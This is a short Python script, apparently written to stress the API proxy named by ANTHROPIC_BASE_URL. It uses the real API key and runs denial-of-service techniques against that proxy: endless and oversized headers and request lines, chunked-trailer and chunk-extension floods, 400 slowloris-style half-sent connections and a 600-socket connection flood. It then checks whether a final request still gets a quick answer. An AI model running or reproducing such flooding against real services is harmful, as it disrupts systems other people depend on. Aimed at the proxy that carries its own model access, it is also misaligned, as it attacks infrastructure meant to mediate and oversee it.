"""flood.py: what could exhaust the proxy behind ANTHROPIC_BASE_URL; then one honest question, whose answer it tells."""

import http.client
import os
import socket
import time

HOST = os.environ["ANTHROPIC_BASE_URL"].rpartition("/")[2]
KEY = "x-api-key: " + os.environ["ANTHROPIC_API_KEY"]


def connection():
    name, port = HOST.split(":")
    return socket.create_connection((name, int(port)), 20)


def until_closed(first, piece, limit):
    """Sends until the other side hangs up; says how many bytes it took."""
    with connection() as client:
        sent = 0
        try:
            client.sendall(first)
            while sent < limit:
                client.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
        return sent


post = ("POST /v1/messages HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (HOST, KEY)).encode()
print("header", until_closed(post, b"X: " + b"a" * 60000 + b"\r\n", 1 << 27) < 1 << 23)
print("one header", until_closed(post + b"X: ", b"a" * 65536, 1 << 27) < 1 << 23)
print("request line", until_closed(b"GET /", b"a" * 65536, 1 << 27) < 1 << 23)
chunked = post + b"Transfer-Encoding: chunked\r\n\r\n"
print("trailers", until_closed(chunked + b"0\r\n", b"X: " + b"a" * 60000 + b"\r\n", 1 << 27) < 1 << 27)
until_closed(chunked + b"1;x=", b"a" * 65536, 1 << 28)  # an extension of a chunk is read away
idle = [connection() for _ in range(400)]
for number, client in enumerate(idle):
    client.sendall(post[: number % len(post)])  # slowly, and never to the end
flood = []
for _ in range(600):  # as fast as it goes, and nobody waits for an answer
    client = socket.socket()
    client.setblocking(False)
    client.connect_ex((HOST.split(":")[0], int(HOST.split(":")[1])))
    flood.append(client)
start = time.monotonic()
question = http.client.HTTPConnection(HOST, timeout=20)
question.request("GET", "/honest")
print("status", question.getresponse().status, time.monotonic() - start < 5)
